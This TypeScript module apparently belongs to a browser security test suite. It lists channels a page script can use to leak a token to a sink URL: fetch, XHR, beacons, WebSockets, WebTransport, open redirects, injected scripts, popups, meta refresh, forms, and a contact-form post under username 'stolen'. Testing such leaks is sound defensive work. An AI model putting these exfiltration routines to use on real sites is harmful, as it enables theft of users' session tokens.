/** To send out by requests and windows. */
import type { Way } from '../way.ts'
import { call, freshRealm, sinkUrl, tokenNow, wait } from './page.ts'
import { LEAVES, limited, put, way } from './sending.ts'

export const requests: Way[] = [
  way('fetch', 'a request by fetch', (given) => fetch(sinkUrl(given), { mode: 'no-cors' }).catch(String)),
  way('fetch-fresh-realm', 'the same from a fresh realm', async (given) =>
    (await freshRealm()).fetch(sinkUrl(given), { mode: 'no-cors' }).catch(String),
  ),
  way('fetch-keepalive', 'the same while the page goes', (given) =>
    fetch(sinkUrl(given), { mode: 'no-cors', keepalive: true }).catch(String),
  ),
  way('xhr', 'a request by XMLHttpRequest', (given) => {
    const request = new XMLHttpRequest()
    request.open('GET', sinkUrl(given))
    request.send()
  }),
  way('beacon', 'a beacon', (given) => navigator.sendBeacon(sinkUrl(given), 'token')),
  way('websocket', 'a WebSocket', (given) => new WebSocket(sinkUrl(given, '/', 'ws'))),
  way('eventsource', 'an event stream', (given) => new EventSource(sinkUrl(given))),
  way('webtransport', 'a WebTransport', (given) => new WebTransport(sinkUrl(given, '/', 'https')).ready.catch(String)),
  way('redirect', 'a redirect of the own origin', (given) =>
    Promise.all(
      ['/Login?next=', '/?url=', '/Home?to='].map((path) =>
        fetch(`${path}${encodeURIComponent(sinkUrl(given))}`, { mode: 'no-cors' }).catch(String),
      ),
    ),
  ),
  way('import', 'a script of its own', (given) => {
    const script = document.createElement('script')
    script.src = sinkUrl(given)
    document.body.append(script)
  }),
]

export const places: Way[] = [
  limited(
    way('location', 'the address of the page', (given) => {
      setTimeout(() => location.assign(sinkUrl(given, '/?token')))
    }),
    LEAVES,
  ),
  limited(
    way('meta-refresh', 'the page led away by <meta>', (given) =>
      put('meta', { 'http-equiv': 'refresh', content: `0;url=${sinkUrl(given)}` }, document.head),
    ),
    LEAVES,
  ),
  limited(
    way('window', 'a window', (given) => open(sinkUrl(given, '/?token'))),
    LEAVES,
  ),
  limited(
    way('link-tapped', 'a link that it taps itself', (given) =>
      put('a', { href: sinkUrl(given), target: '_blank' }).click(),
    ),
    LEAVES,
  ),
  way('form', 'a form', (given) => {
    const form = put('form', { action: sinkUrl(given), method: 'post', target: '_blank' }) as HTMLFormElement
    form.submit()
  }),
  ...['/robots.txt', '/composition.json', '/api/member/getUserInfo'].map((path) =>
    way(`from${path.replaceAll(/[/.]/g, '-').toLowerCase()}`, `a request from a window of ${path}`, async (given) => {
      const opened = open(path) as (Window & typeof globalThis) | null
      await wait(1000)
      return opened?.fetch(sinkUrl(given), { mode: 'no-cors' }).catch(String)
    }),
  ),
  {
    id: 'send-by-contact',
    wants: 'to leave it with the app itself, for an attacker who asks there',
    harm: 'sends',
    expected: {
      limited: 'each network has its messages a day; operators read them, and the token alone pays nothing out',
    },
    run: ({ id }) =>
      call('/contact/ask', {
        username: 'stolen',
        topic: 'other',
        text: `${id} ${tokenNow()}`,
        key: crypto.randomUUID(),
      }),
    succeeded: ({ got }) => /"number":"[0-9A-Z-]{12,14}"/i.test(got),
  },
]
